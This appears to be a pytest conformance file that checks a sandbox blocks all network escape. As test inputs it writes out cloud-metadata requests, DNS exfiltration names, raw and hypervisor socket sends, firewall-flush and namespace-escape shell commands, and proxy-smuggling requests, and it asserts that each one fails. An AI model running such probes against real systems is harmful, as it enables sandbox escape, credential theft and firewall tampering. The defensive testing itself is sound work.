"""Ways out through the network, under `no-network` and under an allow-list."""

import asyncio
import socket

import pytest

from proctor.testing.conformance.environment_network import METADATA, host_address, probe, service


@pytest.fixture
def own(need):
    address = host_address()
    need(address, "this machine has no network address besides the loopback")
    return address


@pytest.mark.every_engine
def test_services_of_the_host_are_not_reached(cell, own):
    async def case(session):
        async with service() as careless, service("127.0.0.1") as local:
            targets = [f"{host} {careless}" for host in (own, "0.0.0.0", "127.0.0.1", "::1")]
            targets += [f"127.0.0.1 {local}", f"localhost {local}", f"::ffff:127.0.0.1 {local}"]
            gateways = (f"198.18.0.1 {careless}", f"172.17.0.1 {careless}", f"10.0.2.2 {careless}")
            named = ("localhost", socket.gethostname(), "2130706433", "0x7f.1")
            asked = [f"{name} {careless}" for name in (*named, own)]
            return await probe(session, (*targets, *gateways), proxy=tuple(asked))

    assert cell.hold(case).answers == []


def test_the_metadata_of_a_cloud_is_not_reached(cell):
    async def case(session):
        hosts = (METADATA, f"::ffff:{METADATA}", "fd00:ec2::254", "169.254.170.2")
        asked = (f"{METADATA} 80", "metadata.google.internal 80", "2852039166 80", "0xa9fea9fe 80")
        return await probe(session, tuple(f"{host} 80" for host in hosts), proxy=asked)

    assert cell.hold(case).answers == []


def test_names_carry_nothing_out(cell, own):
    """A query that reached a name server would carry what stands in the name."""

    async def case(session):
        loop = asyncio.get_running_loop()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
            server.bind(("0.0.0.0", 0))
            server.setblocking(False)
            port = server.getsockname()[1]
            secret = ("stolen.data.example.com", "stolen.data.test", "stolen.localhost.example")
            udp = (f"{own} {port}", f"127.0.0.1 {port}", "8.8.8.8 53", "1.1.1.1 53", f"{own} 53")
            tcp = ("8.8.8.8 53", "1.1.1.1 853", f"{own} 53")
            seen = await probe(session, tcp, udp, names=secret)
            try:
                received = await asyncio.wait_for(loop.sock_recv(server, 100), 0.3)
            except TimeoutError:
                received = b""
            return seen, received

    seen, received = cell.hold(case)
    assert seen.answers == []
    assert received == b""


def test_ipv6_is_closed_too(cell):
    async def case(session):
        targets = (
            "2606:4700:4700::1111 443",
            "2001:4860:4860::8888 53",
            "fe80::1 80",
            "fd00::1 80",
        )
        return await probe(session, targets, targets)

    assert cell.hold(case).answers == []


def test_raw_packets_cannot_be_sent(cell, own):
    source = f"""
import socket
kinds = [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET6, socket.SOCK_RAW, 58)]
if hasattr(socket, 'AF_PACKET'): kinds.append((socket.AF_PACKET, socket.SOCK_RAW, 768))
for kind in kinds:
    try:
        s = socket.socket(*kind); s.settimeout(1)
        s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ({own!r}, 0)); print('sent', s.recv(100))
    except (OSError, TypeError): pass
try:
    s = socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK: the machine below this one
    s.settimeout(2); s.connect((2, 1024)); print('sent to the hypervisor')
except OSError: pass
"""
    assert "sent" not in cell.python(source).stdout


def test_the_firewall_cannot_be_changed_from_inside(cell, own):
    script = """
        nft flush ruleset; nft list ruleset; nft delete table inet proctor
        iptables -F; ip6tables -F; ip link set lo down; ip route flush table all
        ip addr add 192.0.2.77/24 dev lo; ip link add x type dummy; ip link delete eth0
        unshare -n true && echo new network; unshare -Urn true && echo new user and network
        nsenter -t 1 -n true && [ "$(readlink /proc/1/ns/net)" != "$(readlink /proc/self/ns/net)" ]
        echo 1 > /proc/sys/net/ipv4/ip_forward && echo set
    """

    async def case(session):
        tried = await session.exec(script, timeout_s=60)
        async with service() as port:
            return tried, await probe(session, (f"{own} {port}", f"{METADATA} 80"))

    tried, seen = cell.hold(case)
    assert seen.answers == []
    assert "set\n" not in tried.stdout
    assert "new user and network" not in tried.stdout
    assert "table" not in tried.stdout


def test_the_proxy_is_no_way_to_the_driver(cell):
    """Not to its other ports either, by whatever the request says."""

    async def case(session):
        async with service("127.0.0.1") as port:
            request = (
                "import socket, os\n"
                "where = os.environ.get('http_proxy', '').rpartition('//')[2]\n"
                "host, _, port = where.partition(':')\n"
                "for line in REQUESTS:\n"
                "    if not where: break\n"
                "    s = socket.create_connection((host, int(port)), 5); s.settimeout(10)\n"
                "    s.sendall(line.encode() + b'\\r\\n\\r\\n')\n"
                "    data = b''\n"
                "    while more := s.recv(1000): data += more\n"
                "    print('hello' if b'hello' in data else data.split(b'\\r\\n')[0])\n"
            )
            lines = [
                f"CONNECT 127.0.0.1:{port} HTTP/1.1",
                f"GET http://127.0.0.1:{port}/ HTTP/1.1",
                f"GET http://localhost:{port}/ HTTP/1.1\r\nHost: example.org",
                f"CONNECT example.org@127.0.0.1:{port} HTTP/1.1",
                f"CONNECT [::ffff:127.0.0.1]:{port} HTTP/1.1",
                f"GET http://example.org:{port}@127.0.0.1:{port}/ HTTP/1.1",
                f"CONNECT 127.0.0.1\t:{port} HTTP/1.1",
                f"CONNECT EXAMPLE.ORG.:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}",
            ]
            source = request.replace("REQUESTS", repr(lines))
            return await session.exec(["python3", "-c", source], timeout_s=100)

    result = cell.hold(case)
    assert result.ok, result
    assert "hello" not in result.stdout
